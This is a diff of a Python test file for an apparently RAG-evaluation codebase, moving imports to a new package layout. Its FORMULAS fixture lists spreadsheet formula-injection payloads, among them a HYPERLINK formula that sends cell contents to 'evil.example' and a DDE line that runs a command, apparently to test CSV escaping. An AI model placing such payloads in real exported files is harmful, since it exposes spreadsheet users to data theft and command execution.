@@ -6,13 +6,13 @@ from pathlib import Path
 
 import pytest
 
-from rageval.adapters.corpus import load_corpus, read_rows
-from rageval.adapters.monitoring.conversations import add_conversations, add_votes
-from rageval.adapters.monitoring.database import Database, connect
-from rageval.config import DataConfig
-from rageval.corpus_checks import QUESTION_COLUMNS
-from rageval.formulas import csv_text
-from rageval.stages.review import accept
+from rageval.config.evaluation import DataConfig
+from rageval.corpus.checks import QUESTION_COLUMNS
+from rageval.corpus.files import load_corpus, read_rows
+from rageval.monitoring.review import accept
+from rageval.monitoring.store.conversations import add_conversations, add_votes
+from rageval.monitoring.store.database import Database, connect
+from rageval.text.formulas import csv_text
 from tests.monitoring.made import conversation, id_of, vote
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " =1", "＝1+1"]
